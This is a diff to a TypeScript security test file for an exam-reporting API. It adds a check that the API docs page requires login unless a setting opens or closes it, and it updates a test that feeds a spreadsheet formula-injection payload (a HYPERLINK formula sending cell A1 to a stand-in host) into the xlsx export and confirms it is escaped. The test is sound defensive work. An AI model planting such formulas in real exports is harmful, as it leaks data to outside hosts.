@@ -12,6 +12,7 @@ import { buildServer } from '../../src/api/server.ts';
 import { redactUrl } from '../../src/api/security-headers.ts';
 import { SYSTEM_ACTOR } from '../../src/auth/actor.ts';
 import { reportXlsx } from '../../src/exams/report-xlsx.ts';
+import { ADMIN_PASSWORD } from '../helpers/app.ts';
 import { closeDay, examDay } from '../exams/fixture.ts';
 import type { ExamDay } from '../exams/fixture.ts';
 
@@ -34,6 +35,25 @@ describe('Low items of issue 13 (R-SEC-4/5/7)', () => {
         expect(res.headers['referrer-policy']).toBe('no-referrer');
       }
     } finally {
+      await server.close();
+    }
+  });
+
+  it('/api/docs answers only logged-in users by default; the setting opens or closes it', async () => {
+    const server = await buildServer(d.t.app, pino({ level: 'silent' }));
+    const cfg = d.t.app.config as { apiDocs: 'public' | 'users' | 'off' };
+    try {
+      expect(cfg.apiDocs).toBe('users');
+      expect((await server.inject({ method: 'GET', url: '/api/docs/' })).statusCode).toBe(401);
+      const login = await server.inject({ method: 'POST', url: '/api/auth/login', payload: { username: 'admin', password: ADMIN_PASSWORD } });
+      const cookie = login.headers['set-cookie']!.toString().split(';')[0];
+      expect((await server.inject({ method: 'GET', url: '/api/docs/', headers: { cookie } })).statusCode).toBe(200);
+      cfg.apiDocs = 'off';
+      expect((await server.inject({ method: 'GET', url: '/api/docs/', headers: { cookie } })).statusCode).toBe(404);
+      cfg.apiDocs = 'public';
+      expect((await server.inject({ method: 'GET', url: '/api/docs/' })).statusCode).toBe(200);
+    } finally {
+      cfg.apiDocs = 'users';
       await server.close();
     }
   });
@@ -67,7 +87,7 @@ describe('Low items of issue 13 (R-SEC-4/5/7)', () => {
     const evil = '=HYPERLINK("http://x.invalid/?"&A1,"点我")';
     const lines = report.lines.map((l, i) => (i === 0 ? { ...l, cameraName: evil, roomName: '+1+2' } : l));
     const wb = new ExcelJS.Workbook();
-    await wb.xlsx.load(await reportXlsx({ ...report, lines }));
+    await wb.xlsx.load((await reportXlsx({ ...report, lines })) as unknown as ArrayBuffer);
     const values: unknown[] = [];
     wb.getWorksheet('明细')!.eachRow((row) => row.eachCell((c) => values.push(c.value)));
     expect(values).toContain(`'${evil}`);
